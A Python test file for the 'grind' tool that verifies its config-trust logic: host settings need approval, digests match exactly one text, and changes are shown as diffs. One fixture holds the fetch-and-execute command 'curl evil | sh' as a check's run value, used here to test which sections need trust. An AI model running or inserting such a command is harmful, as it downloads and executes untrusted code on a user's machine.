"""What needs a yes, and that a yes fits exactly one text."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from grind.core.config import Config, HostConfig, load
from grind.core.trust import FREE, relevant, standing

NAMES = st.from_regex(r"[A-Za-z0-9_.-]{1,8}", fullmatch=True)
ALIASES = st.from_regex(r"[a-z@.=\"\[\]]{1,6}", fullmatch=True)
VALUES = st.text(st.characters(exclude_categories=["Cs"]), max_size=6)
HOSTS = st.builds(
    HostConfig,
    ssh=ALIASES,
    role=st.sampled_from(["grind", "staging", "prod"]),
    workspace=st.none() | st.just("/w"),
    set=st.dictionaries(st.sampled_from(["A", "B"]), VALUES, max_size=2),
    path=st.lists(VALUES, max_size=2).map(tuple),
)
CONFIGS = st.builds(
    Config,
    hosts=st.dictionaries(NAMES.filter(lambda name: name != "local"), HOSTS, max_size=2),
    host=st.none() | NAMES,
    jobs=st.none() | st.integers(1, 3),
)


@given(CONFIGS, CONFIGS)
def test_equal_texts_mean_equal_hosts_and_the_reverse(one: Config, other: Config) -> None:
    same = (one.hosts, one.host) == (other.hosts, other.host)
    assert (relevant(one).text == relevant(other).text) is same
    assert (relevant(one).digest == relevant(other).digest) is same


@given(CONFIGS)
def test_a_yes_lasts_until_something_changes(config: Config) -> None:
    now = relevant(config)
    assert standing(config, now.digest, now.text).trusted
    assert standing(config, None, None).trusted is (now.text == "")
    more = msgspec.structs.replace(config, hosts=config.hosts | {"one-more": HostConfig(ssh="x")})
    after = standing(more, now.digest, now.text)
    assert not after.trusted
    assert after.changes == ('+ hosts.one-more.ssh = "x"',)


def test_what_stays_in_a_checkout_needs_no_yes() -> None:
    config = load(
        "grind.toml",
        b'jobs = 2\n[[check]]\nname = "a"\nrun = "curl evil | sh"\n[hosts.local]\nenv = ["X"]\n'
        b'[[verdict]]\njob = "a"\nreason = "r"\nverdict = "overridden"\nrun = "true"\n',
    )
    assert relevant(config).text == ""
    assert standing(config, None, None).trusted


def test_every_section_counts_but_those_that_are_named() -> None:
    names = {field.encode_name for field in msgspec.structs.fields(Config)}
    assert names >= FREE
    assert not names & {"hosts", "host"} & FREE


def test_the_text_is_for_reading() -> None:
    config = load(
        "grind.toml",
        b'host = "box"\n[hosts.box]\nssh = "ada@box"\nset = { A = "1\\n2" }\npath = ["/x"]\n'
        b'[hosts.local]\nworkspace = "/opt/w"\njobs = 3\n',
    )
    assert relevant(config).text == (
        'host = "box"\n'
        'hosts.box.path = ["/x"]\n'
        'hosts.box.set.A = "1\\n2"\n'
        'hosts.box.ssh = "ada@box"\n'
        'hosts.local.workspace = "/opt/w"\n'
    )


def test_what_changed_is_shown() -> None:
    before = load("grind.toml", b'[hosts.box]\nssh = "box"\njobs = 2\n')
    after = load("grind.toml", b'[hosts.box]\nssh = "evil"\njobs = 2\n')
    old = relevant(before)
    assert standing(after, old.digest, old.text).changes == (
        '- hosts.box.ssh = "box"',
        '+ hosts.box.ssh = "evil"',
    )


@pytest.mark.parametrize("digest", ["", "0" * 64])
def test_another_digest_is_no_yes(digest: str) -> None:
    config = load("grind.toml", b'[hosts.box]\nssh = "box"\n')
    assert not standing(config, digest, "").trusted
